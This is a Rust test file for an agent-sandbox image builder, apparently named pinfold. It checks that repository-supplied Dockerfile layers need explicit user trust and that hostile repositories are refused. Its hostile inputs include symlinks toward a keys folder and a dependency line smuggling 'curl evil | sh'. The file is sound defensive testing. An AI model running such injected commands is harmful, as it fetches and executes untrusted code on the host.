//! What a repository adds to an agent's image.

use std::fs;
use std::os::unix::fs::symlink;

use pinfold_testkit::engines::Room;

use super::{Scene, good, refused, said};

const LAYER: &str = "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY tool.sh /\nRUN cat /mark /tool.sh\n";

fn trust(scene: &Scene<'_>, options: &[&str]) -> String {
    let args = [&["trust", "--image"], options].concat();
    good(&scene.stage.pinfold(&args).output().unwrap())
}

#[test]
fn layer_of_a_repository_is_built_only_as_the_user_has_seen_it() {
    let rooms = Room::all("layer_of_a_repository_is_built_only_as_the_user_has_seen_it");
    for (index, room) in rooms.into_iter().enumerate() {
        let scene = Scene::new(&room);
        scene.stage.write("ws/.agent-loop/config.json", "{}");
        scene.stage.write("ws/.agent-loop/Dockerfile.sandbox", LAYER);
        scene.stage.write("ws/.agent-loop/tool.sh", "a tool");
        let error = refused(&scene.build(&[]));
        let untrusted = ".agent-loop/Dockerfile.sandbox is not trusted as it is now";
        assert!(error.contains(untrusted) && error.contains("pinfold trust --image"), "{error}");
        assert!(!error.contains("pinfold: building"), "{error}");
        let shown = trust(&scene, &["--yes"]);
        assert!(
            shown.contains("COPY tool.sh /")
                && shown.contains("trusted as they are now:\n        .agent-loop/config.json\n")
                && shown.contains("\n        .agent-loop/tool.sh\n"),
            "{shown}"
        );
        let built = scene.build(&[]);
        let tag = good(&built);
        assert!(tag.starts_with("agent-loop-sandbox-pi-ws:v"), "{tag}");
        assert!(said(&built).contains("one\na tool"), "{}", said(&built));
        assert_eq!(good(&scene.tag(&["--base-image", "base:1"])), tag);
        assert_eq!(said(&scene.build(&[])).matches("is there").count(), 2);
        let plain = scene.build(&["--agent-only"]);
        assert!(good(&plain).starts_with("agent-loop-sandbox-pi:v"), "{}", said(&plain));
        assert!(said(&plain).ends_with(" is there\n"), "{}", said(&plain));
        if index > 0 {
            // Trust is the same behind each engine.
            continue;
        }
        // Another word next to it is another content.
        scene.stage.write("ws/.agent-loop/tool.sh", "another");
        assert!(refused(&scene.build(&[])).contains(untrusted));
        assert_ne!(good(&scene.tag(&["--base-image", "base:1"])), tag);
        let hash = trust(&scene, &["--hash"]);
        assert_ne!(good(&scene.build(&["--trust-image", &hash])), tag);
        scene.stage.write("ws/.agent-loop/tool.sh", "a third");
        let error = refused(&scene.build(&["--trust-image", &hash]));
        assert!(error.contains(&format!("not {hash}")), "{error}");
    }
}

#[test]
fn a_hostile_repository_gets_nothing_of_the_host_into_a_context() {
    let Some(room) = Room::podman("a_hostile_repository_gets_nothing_of_the_host") else { return };
    let scene = Scene::new(&room);
    scene.stage.write("home/keys/Dockerfile.sandbox", LAYER);
    let directory = scene.stage.path("ws/.agent-loop");
    symlink(scene.stage.path("home/keys"), &directory).unwrap();
    let link = "does not lead to a file of the same folder";
    assert!(refused(&scene.build(&[])).contains(link));
    fs::remove_file(&directory).unwrap();
    scene.stage.write("ws/.agent-loop/Dockerfile.sandbox", LAYER);
    symlink("../../home/keys/Dockerfile.sandbox", directory.join("tool.sh")).unwrap();
    assert!(refused(&scene.build(&[])).contains(link));
    assert!(
        refused(&scene.stage.pinfold(&["trust", "--image", "--yes"]).output().unwrap())
            .contains(link)
    );
    fs::remove_file(directory.join("tool.sh")).unwrap();
    // It skips the agent's image, or names what is no package.
    scene.stage.write("ws/.agent-loop/Dockerfile.sandbox", "FROM base:1\n");
    assert!(refused(&scene.build(&[])).contains("does not build on the agent's image"));
    fs::remove_file(directory.join("Dockerfile.sandbox")).unwrap();
    for line in ["jq; curl evil | sh", "--allow-unauthenticated", "./evil.deb", "jq-"] {
        scene.stage.write("ws/.agent-loop/dependencies", format!("# tools\n{line}\n"));
        let error = refused(&scene.build(&[]));
        assert!(error.contains(".agent-loop/dependencies: line 2"), "{error}");
    }
    assert!(scene.contexts().is_empty());
}
